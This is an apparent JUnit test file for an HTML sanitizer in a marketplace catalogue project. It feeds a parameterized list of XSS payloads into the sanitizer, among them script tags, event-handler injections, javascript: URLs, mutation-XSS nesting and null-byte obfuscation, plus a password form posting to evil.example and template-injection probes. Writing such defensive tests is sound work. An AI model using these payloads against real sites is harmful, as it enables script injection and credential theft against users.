package dev.marketplace.catalogue.control;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlTest {

    @Test
    void formatting_stays() {
        String rich = "<h2>Care</h2><p>Wash <b>cold</b>, <em>never</em> iron.</p><ul><li>one</li></ul>";
        assertThat(Html.safe(rich)).isEqualTo(rich);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<p onclick=\"alert(1)\">x</p>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<svg/onload=alert(1)>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<<script>alert(1)//<</script>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<form action=\"https://evil.example\"><input name=password></form>",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>"
            })
    void what_could_act_does_not(String html) {
        String safe = Html.safe(html).toLowerCase(java.util.Locale.ROOT);
        assertThat(safe)
                .doesNotContain("<script", "<img", "<svg", "<iframe", "<form", "<input", "<a ", "onclick", "style=")
                .doesNotContain("javascript:");
        assertThat(Html.safe(safe)).as("once safe, safe again").isEqualTo(safe);
    }

    @Test
    void templates_are_only_text() {
        assertThat(Html.safe("#{7*7} ${7*7}")).doesNotContain("49");
    }
}
